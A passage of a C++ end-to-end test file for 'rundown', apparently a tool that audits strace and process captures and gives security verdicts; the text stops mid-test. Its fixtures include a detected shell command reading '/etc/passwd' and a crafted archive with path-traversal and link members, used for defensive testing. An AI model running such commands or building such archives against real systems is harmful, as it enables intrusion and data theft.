// End to end: `rundown analyze` on the four real captures in testdata/ (copied from
// shared/artifacts), run in-process through the same RunCli that main() calls. Asserts the
// JSON contract, the verdict, the exit code and the key findings with their evidence.
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <map>
#include <sstream>
#include <string>
#include <tuple>
#include <vector>

#include "absl/strings/str_split.h"
#include "cli/commands.h"
#include "tests/cli_test_util.h"
#include "parsers/path_util.h"
#include "parsers/text_util.h"
#include "gtest/gtest.h"
#include "simdjson.h"

namespace rundown {
namespace {

namespace fs = std::filesystem;

struct Json {
  simdjson::dom::parser parser;
  simdjson::dom::element root;
};

std::unique_ptr<Json> ParseJson(const std::string& text) {
  auto j = std::make_unique<Json>();
  auto result = j->parser.parse(text);
  EXPECT_EQ(result.error(), simdjson::SUCCESS) << text.substr(0, 500);
  if (result.error() == simdjson::SUCCESS) j->root = result.value();
  return j;
}

std::string Str(simdjson::dom::element e, const char* key) {
  std::string_view v;
  if (e[key].get(v) != simdjson::SUCCESS) return "";
  return std::string(v);
}

// The report's list of strings under `key` ("process_tree", "network_activity" ...).
std::vector<std::string> Lines(const Json& j, const char* key) {
  std::vector<std::string> out;
  for (simdjson::dom::element line : j.root[key].get_array()) {
    std::string_view v;
    EXPECT_EQ(line.get(v), simdjson::SUCCESS);
    out.emplace_back(v);
  }
  return out;
}

uint64_t Num(simdjson::dom::element e, const char* key, uint64_t missing = 0) {
  uint64_t v = 0;
  return e[key].get(v) == simdjson::SUCCESS ? v : missing;
}

std::string TableField(const Json& j, const std::string& category, const char* field) {
  for (simdjson::dom::element row : j.root["table"].get_array())
    if (Str(row, "category") == category) return Str(row, field);
  return "(no row)";
}
std::string TableRisk(const Json& j, const std::string& category) { return TableField(j, category, "risk"); }

// Fired findings of a category; informational ones (e.g. "listens on a port") only when asked.
std::vector<simdjson::dom::element> Fired(const Json& j, const std::string& category,
                                          bool with_info = false) {
  std::vector<simdjson::dom::element> out;
  for (simdjson::dom::element f : j.root["findings"].get_array())
    if (Str(f, "category") == category && Str(f, "status") == "fired" &&
        (with_info || Str(f, "severity") != "info"))
      out.push_back(f);
  return out;
}

bool AnyEvidence(simdjson::dom::element finding, const std::string& file_suffix, uint64_t line,
                 const std::string& text_part) {
  for (simdjson::dom::element e : finding["evidence"].get_array()) {
    std::string file = Str(e, "file");
    uint64_t l = Num(e, "line");
    if (file.ends_with(file_suffix) && (line == 0 || l == line) &&
        Str(e, "text").find(text_part) != std::string::npos)
      return true;
  }
  return false;
}

// Every finding of a run, as rule -> count (fired ones only).
std::map<std::string, uint64_t> FiredCounts(const Json& j) {
  std::map<std::string, uint64_t> fired;
  for (simdjson::dom::element f : j.root["findings"].get_array())
    if (Str(f, "status") == "fired") fired[Str(f, "rule")] = Num(f, "count");
  return fired;
}

simdjson::dom::element FindingOf(const Json& j, const std::string& rule) {
  for (simdjson::dom::element f : j.root["findings"].get_array())
    if (Str(f, "rule") == rule) return f;
  ADD_FAILURE() << "no finding " << rule;
  return j.root;
}

TEST(EndToEnd, P1CleanFfIsPass) {
  CliRun r = Cli({"analyze", Case("p1_chat_clean_ff"), "--format", "json"});
  ASSERT_EQ(r.code, 0) << r.err << r.out.substr(0, 2000);
  auto j = ParseJson(r.out);
  EXPECT_EQ(Str(j->root, "schema"), "rundown.report/1");
  EXPECT_EQ(Str(j->root, "verdict"), "PASS");
  for (const char* c : {"process", "network", "privilege"}) {
    EXPECT_TRUE(Fired(*j, c).empty()) << c;
    EXPECT_EQ(TableRisk(*j, c), "safe") << c;
  }
  EXPECT_EQ(j->root["table"].get_array().size(), 7u);
  // Each source's time span, and whether it overlaps the trace's (program.log's pino times
  // are epoch, strace -tt a time of day: compared as UTC, and the answer says so).
  std::map<std::string, std::vector<std::string>> spans;
  for (simdjson::dom::element c : j->root["coverage"].get_array())
    spans[Str(c, "source")] = {Str(c, "first_time"), Str(c, "last_time"), Str(c, "overlaps_trace")};
  EXPECT_EQ(spans["strace"], (std::vector<std::string>{"19:31:04.476323 (time of day)",
                                                       "19:31:19.925504 (time of day)", ""}));
  EXPECT_EQ(spans["program_log"], (std::vector<std::string>{"2026-11-22 19:31:04.703000 UTC",
                                                            "2026-11-22 19:31:19.902000 UTC",
                                                            "yes (time of day taken as UTC)"}));
  EXPECT_EQ(spans["ps"], (std::vector<std::string>{"", "", "unknown (no timestamps)"}));
}

TEST(EndToEnd, P2CleanSingleFileIsPass) {
  CliRun r = Cli({"analyze", Case("p2_chat_clean_single"), "--format", "json"});
  ASSERT_EQ(r.code, 0) << r.err << r.out.substr(0, 2000);
  auto j = ParseJson(r.out);
  EXPECT_EQ(Str(j->root, "verdict"), "PASS");
  for (const char* c : {"process", "network", "privilege"}) EXPECT_TRUE(Fired(*j, c).empty()) << c;
  // netstat stands in for ss; the NDJSON program.log is parsed, not "unparsed".
  bool netstat = false;
  for (simdjson::dom::element c : j->root["coverage"].get_array()) {
    if (Str(c, "source") == "netstat") netstat = true;
    if (Str(c, "source") == "program_log") {
      EXPECT_EQ(Num(c, "unparsed", 1), 0u);
    }
  }
  EXPECT_TRUE(netstat);
}

TEST(EndToEnd, P3MissingModuleIsInconclusive) {
  CliRun r = Cli({"analyze", Case("p3_missing_module"), "--format", "json"});
  ASSERT_EQ(r.code, 3) << r.err << r.out.substr(0, 2000);
  auto j = ParseJson(r.out);
  EXPECT_EQ(Str(j->root, "verdict"), "INCONCLUSIVE");
  // The missing module is named, with evidence in program.log.
  bool named = false;
  for (simdjson::dom::element f : j->root["findings"].get_array()) {
    if (Str(f, "status") == "fired" && Str(f, "observation").find("'ws'") != std::string::npos &&
        AnyEvidence(f, "program.log", 0, "Cannot find module 'ws'"))
      named = true;
  }
  EXPECT_TRUE(named) << r.out.substr(0, 4000);
  EXPECT_NE(TableRisk(*j, "stability"), "safe");
  // Rows with nothing found say that only start-up was observed.
  for (simdjson::dom::element row : j->root["table"].get_array()) {
    if (Str(row, "risk") != "safe") continue;
    EXPECT_TRUE(Str(row, "comments").ends_with("; only start-up was observed (the run died before steady state)"))
        << Str(row, "category") << ": " << Str(row, "comments");
  }
}

TEST(EndToEnd, P4ShellSpawnIsFailWithEvidence) {
  CliRun r = Cli({"analyze", Case("p4_shell_spawn"), "--format", "json"});
  ASSERT_EQ(r.code, 1) << r.err << r.out.substr(0, 2000);
  auto j = ParseJson(r.out);
  EXPECT_EQ(Str(j->root, "verdict"), "FAIL");
  bool shell = false;
  for (simdjson::dom::element f : Fired(*j, "process")) {
    std::string obs = Str(f, "observation");
    if (obs.find("/bin/sh") != std::string::npos && obs.find("id; cat /etc/passwd") != std::string::npos &&
        AnyEvidence(f, "strace_log.91", 42, "execve(\"/bin/sh\""))
      shell = true;
  }
  EXPECT_TRUE(shell) << r.out.substr(0, 6000);
  bool passwd = false;
  for (simdjson::dom::element f : Fired(*j, "file")) {
    if (Str(f, "observation").find("/etc/passwd") != std::string::npos &&
        AnyEvidence(f, "strace_log.93", 35, "openat(AT_FDCWD</home/auditor/app>, \"/etc/passwd\""))
      passwd = true;
  }
  EXPECT_TRUE(passwd) << r.out.substr(0, 6000);
  EXPECT_TRUE(TableRisk(*j, "process") == "high" || TableRisk(*j, "process") == "critical");
  // The tree: threads folded into their process, the shell and its two children, and the
  // processes only ps saw, with ps's full command line (ss.txt names pid 46 only "node").
  EXPECT_EQ(Lines(*j, "process_tree"), (std::vector<std::string>{
                      "pid 28 node app.js  [10 threads]  (exit 0)  \u2190 target",
                      "  \u2514\u2500 pid 91 /bin/sh -c id; cat /etc/passwd  (exit 0)",
                      "    \u2514\u2500 pid 92 id  (exit 0)",
                      "    \u2514\u2500 pid 93 cat /etc/passwd  (exit 0)",
                      "(ps only) pid 46 auditor node /opt/harness/chat-client.js --users alice,bob --rounds 1 --say "
                      "/diag --hold 3000",
                      "(ps only) pid 1 root /bin/bash /opt/harness/entrypoint.sh",
                      "(ps only) pid 16 root inotifywait -m -r --csv /home/auditor",
                      "(ps only) pid 23 root strace -ff -tt -T -yy -s 256 -o /artifacts/strace_log -u auditor node app.js",
                      "(ps only) pid 110 root ps -ef"}));
}

TEST(EndToEnd, MarkdownIsTheDefaultAndHasTheReviewerSections) {
  CliRun r = Cli({"analyze", Case("p4_shell_spawn")});
  ASSERT_EQ(r.code, 1) << r.err;
  for (const char* section : {"## Overview", "## Process tree", "## File system activity", "## Network activity",
                              "## System call summary", "## Security assessment",
                              "| Category | Observation | Risk | Comments |", "## Recommendations",
                              "## Conclusion", "**FAIL**"})
    EXPECT_NE(r.out.find(section), std::string::npos) << section;
  EXPECT_NE(r.out.find("pid 91 /bin/sh -c id; cat /etc/passwd"), std::string::npos) << r.out.substr(0, 3000);
  // The conclusion names every reason for the verdict.
  EXPECT_NE(r.out.find("## Conclusion\n\n**FAIL**\n\n"
                       "- high: the program started a shell: /bin/sh -c id; cat /etc/passwd (pid 91, parent node pid 28)\n"
                       "- high: a shell was started while the program served network clients: /bin/sh -c id; cat "
                       "/etc/passwd (pid 91) after serving 127.0.0.1:56822: remote command execution\n"),
            std::string::npos)
      << r.out.substr(r.out.find("## Conclusion"));
}

// The file activity lists what each path saw: the writes counted on the fd's path (-y names
// it /proc/74/...), the open's own path opened for writing with no write of its own.
TEST(EndToEnd, FileActivitySaysOpenedForWritingWithoutWrites) {
  CliRun r = Cli({"analyze", Case("cases/c_evasive_miner")});
  ASSERT_EQ(r.code, 1) << r.err;
  EXPECT_NE(r.out.find("\n  /proc/self/task/175/comm  (opened for writing)\n  /proc/74/task/175/comm  (write×1)\n"),
            std::string::npos)
      << r.out.substr(r.out.find("## File system activity"), 1500);
}

fs::path CopyCase(const std::string& name, const std::vector<std::string>& drop) {
  std::string flat = name;
  std::replace(flat.begin(), flat.end(), '/', '_');  // "cases/py_http_clean"
  fs::path dst = fs::temp_directory_path() / ("rundown_e2e_" + std::to_string(::getpid()) + "_" + flat);
  fs::remove_all(dst);
  fs::copy(Case(name), dst);
  for (const std::string& d : drop) fs::remove(dst / d);
  for (const auto& e : fs::directory_iterator(dst))
    fs::permissions(e.path(), fs::perms::owner_read | fs::perms::owner_write, fs::perm_options::add);
  return dst;
}

TEST(EndToEnd, MissingSourceIsInconclusiveUnlessAccepted) {
  fs::path dir = CopyCase("p1_chat_clean_ff", {"ps.txt"});
  CliRun r = Cli({"analyze", dir.string(), "--format", "json"});
  EXPECT_EQ(r.code, 3) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(Str(j->root, "verdict"), "INCONCLUSIVE");
  bool reason = false;
  for (simdjson::dom::element why : j->root["verdict_reasons"].get_array()) {
    std::string_view s;
    EXPECT_EQ(why.get(s), simdjson::SUCCESS);
    reason |= s.find("process snapshot") != std::string_view::npos;
  }
  EXPECT_TRUE(reason);
  CliRun accepted = Cli({"analyze", dir.string(), "--format", "json", "--allow-missing", "ps"});
  EXPECT_EQ(accepted.code, 0) << accepted.out.substr(0, 1500);
  auto pass = ParseJson(accepted.out);
  EXPECT_EQ(Str(pass->root, "verdict"), "PASS");
  EXPECT_EQ(Lines(*pass, "verdict_reasons")[0],
            "no finding above low severity; missing sources accepted with --allow-missing: process snapshot (ps.txt); "
            "reached steady state: program.log reports it is listening");
  // A list option takes one value per flag: the folder may come after the options.
  CliRun folder_last = Cli({"analyze", "--allow-missing", "ps", "--format", "json", dir.string()});
  EXPECT_EQ(folder_last.code, 0) << folder_last.err;
  EXPECT_EQ(folder_last.out, accepted.out);
  fs::remove_all(dir);
}

// cases/py_http_clean (PASS) with its `drop` file replaced by formats/`file` named `name`: the
// run is INCONCLUSIVE, first for `reason`, as with no such file at all.
void ExpectReplacedSourceIsMissing(const char* drop, const std::string& file, const char* name, const char* reason) {
  SCOPED_TRACE(file);
  fs::path dir = CopyCase("cases/py_http_clean", {drop});
  fs::copy_file(Case("formats/" + file), dir / name);
  CliRun r = Cli({"analyze", dir.string(), "--format", "json"});
  EXPECT_EQ(r.code, 3);
  auto j = ParseJson(r.out);
  EXPECT_EQ(Str(j->root, "verdict"), "INCONCLUSIVE");
  EXPECT_EQ(Lines(*j, "verdict_reasons")[0], std::string("missing or empty source: ") + reason);
  fs::remove_all(dir);
}

// netstat.txt holding `netstat -s` (or ss.txt holding `ss -s`): protocol counters, no socket
// listed. It is not a socket snapshot (before: PASS, the counters taken for "no socket open").
TEST(EndToEnd, SocketStatisticsAreNotASocketSnapshot) {
  const char* reason = "socket snapshot (ss.txt or netstat.txt)";
  ExpectReplacedSourceIsMissing("ss.txt", "netstat/s.txt", "netstat.txt", reason);
  ExpectReplacedSourceIsMissing("ss.txt", "ss/s.txt", "ss.txt", reason);
}

// An inotify log none of whose records could be read says nothing of what changed: the
// man page's `inotifywait -qmr -e moved_to,create --format '%w%f%0' --no-newline` (paths
// without events), inotifywatch's counts. Before: PASS, as with a clean log; now as with none.
TEST(EndToEnd, InotifyLogWithoutAReadableEventIsNotFileEvents) {
  const char* reason = "file events (inotify log)";
  ExpectReplacedSourceIsMissing("inotify.log", "inotify/qmr_e_format_w_f_0_no_newline.txt", "inotify.log", reason);
  ExpectReplacedSourceIsMissing("inotify.log", "inotify/inotifywatch_r_e_t.txt", "inotify.log", reason);
}

// strace -f -Z (--failed-only) of harness/apps/net_file_proc.py: the execve, the opens and
// the connect that worked are not in the trace, so the rows that would show them are not
// assessed (privilege and backdoor too: a setuid or a persistence write that worked would be
// missing), and the missing execve is not blamed on -p.
TEST(EndToEnd, FailedCallsOnlyTraceCannotClearTheRun) {
  CliRun r = Cli({"analyze", Case("formats/strace/f_tt_T_Z_failed_only.txt"), "--format", "json"});
  EXPECT_EQ(r.code, 3) << r.err;
  auto j = ParseJson(r.out);
  const std::vector<std::string> reasons = Lines(*j, "verdict_reasons");
  ASSERT_EQ(reasons.size(), 5u);
  EXPECT_EQ(reasons[0], "the trace holds failed calls only (strace -Z / --failed-only / -e status=failed): process, "
                        "network, file, privilege, backdoor not assessed");
  EXPECT_EQ(reasons[1], "missing or empty source: socket snapshot (ss.txt or netstat.txt)");
  EXPECT_EQ(TableField(*j, "network", "comments"),
            "the trace holds failed calls only (strace -Z / --failed-only / -e status=failed): the execs, opens and "
            "connects that worked are not in it, so their absence proves nothing");
  EXPECT_EQ(Lines(*j, "recommendations")[0],
            "Trace every system call, whatever its result, with its arguments decoded (strace without -e trace=, -Z, "
            "-e status= or -e raw=), in the next run: process, network, file, privilege, backdoor could not be "
            "assessed.");
}

// strace -f -tt -e raw=all of the same program (formats/strace/f_tt_e_raw_all.txt): every
// argument is a number or an address, so no open shows its path and the file row cannot
// be cleared; the connect's address is unknown too (outbound_unknown_destination).
TEST(EndToEnd, RawArgumentsLeaveTheFileRowNotAssessed) {
  CliRun r = Cli({"analyze", Case("formats/strace/f_tt_e_raw_all.txt"), "--format", "json", "--allow-missing", "all"});
  EXPECT_EQ(r.code, 3) << r.err;
  auto j = ParseJson(r.out);
  const std::vector<std::string> reasons = Lines(*j, "verdict_reasons");
  ASSERT_EQ(reasons.size(), 1u);
  // The backdoor row's persistence writes and temporary-directory execs are paths too.
  EXPECT_EQ(reasons[0], "the trace does not show paths (strace -e raw=): file, backdoor not assessed");
  EXPECT_EQ(TableField(*j, "file", "comments"),
            "the trace does not show the paths of its 136 opens (strace -e raw=openat / -e raw=all print them as "
            "addresses): which files the program read, wrote or ran is unknown");
  EXPECT_EQ(TableRisk(*j, "network"), "medium");
  EXPECT_EQ(FiredCounts(*j).at("outbound_unknown_destination"), 1u);
  EXPECT_EQ(FiredCounts(*j).at("process_forked"), 3u);  // sh, id, cat; the flagless clone3 made a thread
}

// strace -f -tt -e trace=connect of harness/apps/scan25.py (25 refused loopback connects):
// every call failed, but all are of one kind, so the trace reads as filtered, not as -Z.
TEST(EndToEnd, OneKindOfRefusedCallsIsAFilteredTraceNotFailedOnly) {
  CliRun r = Cli({"analyze", Case("formats/strace/f_tt_e_trace_connect_refused.txt"), "--format", "json"});
  EXPECT_EQ(r.code, 1) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(FiredCounts(*j).at("port_scan"), 1u);  // one scan of 25 addresses
  EXPECT_EQ(TableField(*j, "process", "comments"),
            "the trace is filtered (strace -e trace=...): it has no process calls and none of the calls every "
            "program makes, so their absence proves nothing");
}

// A strace -c table (counts only, formats/strace/c_summary.txt) with every other source
// accepted as missing: no row is assessed, so there is nothing to pass.
TEST(EndToEnd, NothingAssessedIsInconclusiveEvenWithMissingSourcesAccepted) {
  fs::path dir = fs::temp_directory_path() / "rundown_e2e_summary_only";
  fs::remove_all(dir);
  fs::create_directories(dir);
  fs::copy_file(Case("formats/strace/c_summary.txt"), dir / "strace_log");
  CliRun r = Cli({"analyze", dir.string(), "--format", "json", "--allow-missing", "all"});
  EXPECT_EQ(r.code, 3) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(Str(j->root, "verdict"), "INCONCLUSIVE");
  const std::vector<std::string> reasons = Lines(*j, "verdict_reasons");
  ASSERT_EQ(reasons.size(), 1u);
  EXPECT_EQ(reasons[0], "no category could be assessed: every row of the table is not assessed");
  fs::remove_all(dir);
}

// A -ff trace set with one thread's file missing cannot clear the run: that thread's calls
// are unknown, so the rows that saw nothing are not assessed instead of safe. The same file
// present but empty (strace killed before it wrote the tid's first line, a copy cut short)
// shows no more of it: it read PASS.
TEST(EndToEnd, MissingOrEmptyThreadFileIsInconclusive) {
  for (bool empty : {false, true}) {
    fs::path dir = CopyCase("p1_chat_clean_ff", {});
    if (empty) fs::resize_file(dir / "strace_log.63", 0);
    else fs::remove(dir / "strace_log.63");
    CliRun r = Cli({"analyze", dir.string(), "--format", "json"});
    EXPECT_EQ(r.code, 3) << r.err;
    auto j = ParseJson(r.out);
    EXPECT_EQ(Str(j->root, "verdict"), "INCONCLUSIVE");
    const std::vector<std::string> reasons = Lines(*j, "verdict_reasons");
    EXPECT_EQ(reasons, std::vector<std::string>{
                           "the trace has no file for 1 tid the run created: thread 63 (clone3 at strace_log.28:667); "
                           "strace -ff writes a file per tid, so those files are missing (or empty) and what the tids "
                           "did is unknown; not assessed: process, network, file, privilege, backdoor"})
        << empty;
    for (const char* c : {"process", "network", "file", "privilege", "backdoor"})
      EXPECT_EQ(TableRisk(*j, c), "not-assessed") << c;
    EXPECT_EQ(TableRisk(*j, "stability"), "safe");
    fs::remove_all(dir);
  }
}

// One capture file given instead of a folder is analysed alone: the other sources are
// missing, and so are the files of the tids it created.
TEST(EndToEnd, OneTraceFileIsAnalysedAlone) {
  CliRun r = Cli({"analyze", Case("p1_chat_clean_ff") + "/strace_log.28", "--format", "json"});
  EXPECT_EQ(r.code, 3) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(Str(j->root, "verdict"), "INCONCLUSIVE");
  const std::vector<std::string> reasons = Lines(*j, "verdict_reasons");
  ASSERT_EQ(reasons.size(), 5u);
  EXPECT_TRUE(reasons[0].starts_with("the trace has no file for 10 tids the run created: thread 35 (clone3 at "
                                     "strace_log.28:"))
      << reasons[0];
  EXPECT_EQ(reasons[1], "missing or empty source: socket snapshot (ss.txt or netstat.txt)");
  CliRun notes = Cli({"analyze", Case("p1_chat_clean_ff") + "/../cases/README.md"});
  EXPECT_EQ(notes.code, 2);
  EXPECT_NE(notes.err.find("README.md: not a folder, nor a file of a known source"), std::string::npos) << notes.err;
}

// `strace -f -tt -y -p PID` attached for 1 s to a running python3 loop (mmap, open, sleep):
// the trace never shows the target start, so what it did before cannot be cleared.
TEST(EndToEnd, AttachedTraceCannotClearTheStart) {
  CliRun r = Cli({"analyze", Case("formats/strace/p_attach_mmap.txt"), "--format", "json"});
  EXPECT_EQ(r.code, 3) << r.err;
  auto j = ParseJson(r.out);
  const std::vector<std::string> reasons = Lines(*j, "verdict_reasons");
  ASSERT_EQ(reasons.size(), 5u);
  EXPECT_EQ(reasons[0],
            "the trace does not show the target starting: pid 21413 makes no execve in it (its first line: "
            "p_attach_mmap.txt:1); strace -p attached to a running process, execve was filtered out, or the trace "
            "lost its beginning, so what the program did before is unknown");
  EXPECT_EQ(Lines(*j, "recommendations")[0],
            "Start the program under strace (strace -f -o FILE PROGRAM ...) instead of attaching with -p, with execve "
            "traced, so that its start-up is assessed too.");
}

TEST(EndToEnd, NoStraceMeansProcessRowNotAssessed) {
  fs::path dir = CopyCase("p1_chat_clean_ff", {});
  for (const auto& e : fs::directory_iterator(dir))
    if (e.path().filename().string().starts_with("strace_log")) fs::remove(e.path());
  CliRun r = Cli({"analyze", dir.string(), "--format", "json"});
  EXPECT_EQ(r.code, 3);
  auto j = ParseJson(r.out);
  EXPECT_EQ(TableRisk(*j, "process"), "not-assessed");
  EXPECT_EQ(TableRisk(*j, "privilege"), "not-assessed");
  fs::remove_all(dir);
}

// Two strace runs written into one file (two `strace -o` of the same path): byte runs of
// py_http_clean's and py_dns_lookup's traces alternate, garbling 6 % of the lines. A clean
// run must not pass on that: the calls in the garbled lines are unknown.
TEST(EndToEnd, ManyUnreadableLinesMakeTheVerdictInconclusive) {
  fs::path dir = CopyCase("cases/py_http_clean", {"EXPECTED.md"});
  auto read = [](const fs::path& path) {
    std::ifstream in(path, std::ios::binary);
    return std::string((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  };
  // Chunks cut lines: 8 of the 174 are two lines run together (a call's tail glued to another
  // line), read as one call before StraceParser.TwoLinesRunTogetherAreReported.
  const std::string a = read(dir / "strace_log"), b = read(Case("cases/py_dns_lookup") + "/strace_log");
  std::string mixed;
  for (size_t i = 0, j = 0; i < a.size() || j < b.size(); i += 1500, j += 900) {
    if (i < a.size()) mixed += a.substr(i, 1500);
    if (j < b.size()) mixed += b.substr(j, 900);
  }
  std::ofstream(dir / "strace_log", std::ios::binary) << mixed;
  CliRun r = Cli({"analyze", dir.string(), "--format", "json"});
  EXPECT_EQ(r.code, 3) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(Lines(*j, "verdict_reasons"),
            std::vector<std::string>{StrCat("174 of the 2783 lines of ", (dir / "strace_log").string(),
                                            " could not be read (first at line 13: not a strace line): what they "
                                            "held is unknown")});
  fs::remove_all(dir);
}

// An archived audit: the trace file that holds the shell is gzip-compressed and ps.txt was
// re-saved by PowerShell (UTF-16LE, byte order mark, CRLF). Same verdict and findings, and
// the evidence is the decompressed line.
TEST(EndToEnd, CompressedAndUtf16ArtifactsGiveTheSameReport) {
  fs::path dir = CopyCase("p4_shell_spawn", {"strace_log.91"});
  fs::copy_file(fs::path(RUNDOWN_TESTDATA) / "formats/compressed/p4_strace_log.91.gz", dir / "strace_log.91.gz");
  std::ifstream ps_in(dir / "ps.txt", std::ios::binary);
  std::string ps((std::istreambuf_iterator<char>(ps_in)), std::istreambuf_iterator<char>());
  std::string utf16 = "\xFF\xFE";
  for (char c : ps) {
    if (c == '\n') utf16 += std::string("\r\0", 2);
    utf16 += c;
    utf16 += '\0';
  }
  std::ofstream(dir / "ps.txt", std::ios::binary) << utf16;
  CliRun r = Cli({"analyze", dir.string(), "--format", "json"});
  ASSERT_EQ(r.code, 1) << r.err;
  auto j = ParseJson(r.out);
  bool shell = false;
  for (simdjson::dom::element f : Fired(*j, "process"))
    shell |= AnyEvidence(f, "strace_log.91.gz", 42, "execve(\"/bin/sh\", [\"/bin/sh\", \"-c\", \"id; cat /etc/passwd\"]");
  EXPECT_TRUE(shell) << r.out.substr(0, 4000);
  size_t ps_only = 0;
  for (const std::string& line : Lines(*j, "process_tree")) ps_only += line.starts_with("(ps only)");
  EXPECT_EQ(ps_only, 5u);  // as from the plain ps.txt (P4ShellSpawnIsFailWithEvidence)
  CliRun plain = Cli({"analyze", Case("p4_shell_spawn"), "--format", "json"});
  auto pj = ParseJson(plain.out);
  for (const char* category : {"process", "network", "file", "privilege", "dependencies", "stability", "backdoor"}) {
    EXPECT_EQ(TableRisk(*j, category), TableRisk(*pj, category)) << category;
    EXPECT_EQ(TableField(*j, category, "observation"), TableField(*pj, category, "observation")) << category;
  }
  fs::remove_all(dir);
}

// An archived artifacts folder given as the archive: p4 tarred as audit.tar.gz gives p4's
// verdict, and the report names files inside the archive; nothing is left in the temp folder.
TEST(EndToEnd, ArchiveOfTheArtifactsFolderIsAnalysedLikeTheFolder) {
  fs::path dir = CopyCase("p4_shell_spawn", {});
  const fs::path archive = dir.parent_path() / (dir.filename().string() + ".tar.gz");
  ASSERT_EQ(std::system(StrCat("tar -czf ", archive.string(), " -C ", dir.parent_path().string(), " ",
                               dir.filename().string()).c_str()), 0);
  // The extraction goes to a TMPDIR of this test's own (ctest runs each test in its own
  // process; other tests extract archives into the shared one at the same time).
  const fs::path tmp = dir.parent_path() / (dir.filename().string() + "-tmp");
  fs::create_directories(tmp);
  const char* old_tmpdir = std::getenv("TMPDIR");
  const std::string saved_tmpdir = old_tmpdir ? old_tmpdir : "";
  ::setenv("TMPDIR", tmp.c_str(), 1);
  auto extracted_dirs = [&] {
    size_t n = 0;
    for (const auto& e : fs::directory_iterator(tmp)) n += e.path().filename().string().starts_with("rundown-") &&
                                                           e.path().filename().string().size() == 14;
    return n;
  };
  CliRun r = Cli({"analyze", archive.string(), "--format", "json"});
  ASSERT_EQ(r.code, 1) << r.err;
  auto j = ParseJson(r.out);
  bool shell = false;
  for (simdjson::dom::element f : Fired(*j, "process"))
    shell |= AnyEvidence(f, StrCat(".tar.gz/", dir.filename().string(), "/strace_log.91"), 42, "execve(\"/bin/sh\"");
  EXPECT_TRUE(shell) << r.out.substr(0, 4000);
  CliRun plain = Cli({"analyze", dir.string(), "--format", "json"});
  auto pj = ParseJson(plain.out);
  for (const char* category : {"process", "network", "file", "privilege", "dependencies", "stability", "backdoor"})
    EXPECT_EQ(TableField(*j, category, "observation"), TableField(*pj, category, "observation")) << category;
  EXPECT_EQ(extracted_dirs(), 0u);
  if (old_tmpdir) ::setenv("TMPDIR", saved_tmpdir.c_str(), 1);
  else ::unsetenv("TMPDIR");
  fs::remove_all(tmp);
  // Members an archive must not write are listed, with the archive's name.
  CliRun hostile = Cli({"analyze", StrCat(RUNDOWN_TESTDATA, "/formats/archives/bundle.tar.gz"), "--format", "json"});
  auto hj = ParseJson(hostile.out);
  std::vector<std::string> skipped;
  for (simdjson::dom::element s : hj->root["skipped"].get_array()) {
    std::string file = Str(s, "file");
    skipped.push_back(file.substr(file.find("bundle.tar.gz")));
  }
  EXPECT_EQ(skipped, (std::vector<std::string>{"bundle.tar.gz/../escaped.txt", "bundle.tar.gz/artifacts/passwd_link",
                                               "bundle.tar.gz/artifacts/hard_link", "bundle.tar.gz/artifacts/fifo"}));
  fs::remove_all(dir);
  fs::remove(archive);
}

TEST(EndToEnd, UnknownFilesAreListedAsSkipped) {
  fs::path dir = CopyCase("p1_chat_clean_ff", {});
  std::ofstream(dir / "notes.md") << "reviewer notes\n";
  CliRun r = Cli({"analyze", dir.string(), "--format", "json"});
  auto j = ParseJson(r.out);
  bool listed = false;
  for (simdjson::dom::element s : j->root["skipped"].get_array()) listed |= Str(s, "file").ends_with("notes.md");
  EXPECT_TRUE(listed);
  fs::remove_all(dir);
}

// A folder holding several runs (the shape of shared/artifacts) is refused, not merged into
// one nonsense run; batch takes it.
TEST(EndToEnd, AFolderOfRunsIsRefusedWithWhatToDoInstead) {
  fs::path p1 = CopyCase("p1_chat_clean_ff", {});
  fs::path p4 = CopyCase("p4_shell_spawn", {});
  fs::path root = fs::temp_directory_path() / ("rundown_e2e_" + std::to_string(::getpid()) + "_runs");
  fs::remove_all(root);
  fs::create_directories(root);
  fs::rename(p1, root / "p1");
  fs::rename(p4, root / "p4");
  CliRun r = Cli({"analyze", root.string()});
  EXPECT_EQ(r.code, 2);
  EXPECT_EQ(r.out, "");
  EXPECT_NE(r.err.find(StrCat(root.string(), " holds 2 runs (p1/, p4/): analyze one folder at a time, or all of them "
                              "side by side with `rundown batch ", root.string(), "`")),
            std::string::npos)
      << r.err;
  CliRun one = Cli({"analyze", (root / "p4").string(), "--format", "json"});
  EXPECT_EQ(one.code, 1) << one.err;
  fs::remove_all(root);
}

TEST(EndToEnd, UsageErrorsExitTwoWithAMessage) {
  CliRun missing = Cli({"analyze", "/nonexistent/folder"});
  EXPECT_EQ(missing.code, 2);
  EXPECT_NE(missing.err.find("/nonexistent/folder: no such folder"), std::string::npos) << missing.err;
  CliRun bad_flag = Cli({"analyze", Case("p1_chat_clean_ff"), "--format", "xml"});
  EXPECT_EQ(bad_flag.code, 2);
  CliRun bad_allow = Cli({"analyze", Case("p1_chat_clean_ff"), "--allow-missing", "dns"});
  EXPECT_EQ(bad_allow.code, 2);
  EXPECT_NE(bad_allow.err.find("--allow-missing 'dns'"), std::string::npos);
  CliRun help = Cli({"--help"});
  EXPECT_EQ(help.code, 0);
  EXPECT_NE(help.out.find("Examples:"), std::string::npos);
}

TEST(EndToEnd, BadRuleFileIsAPositionedError) {
  fs::path rules = fs::temp_directory_path() / ("rundown_bad_" + std::to_string(::getpid()) + ".rules");
  std::ofstream(rules) << "rule broken {\n  category process\n  severity high\n  when proc.cmdlin = \"x\"\n}\n";
  CliRun r = Cli({"analyze", Case("p1_chat_clean_ff"), "--rules", rules.string()});
  EXPECT_EQ(r.code, 2);
  EXPECT_NE(r.err.find(rules.string() + ":4:"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("proc.cmdline"), std::string::npos) << r.err;  // the suggestion
  fs::remove(rules);
}

TEST(EndToEnd, ParseStatsJson) {
  CliRun r = Cli({"parse", Case("p2_chat_clean_single") + "/strace_log", "--stats", "--format", "json", "--threads", "2"});
  ASSERT_EQ(r.code, 0) << r.err;
  auto j = ParseJson(r.out);
  uint64_t lines = 0, stitched = 0, exits = 0;
  ASSERT_EQ(j->root["lines"].get(lines), simdjson::SUCCESS);
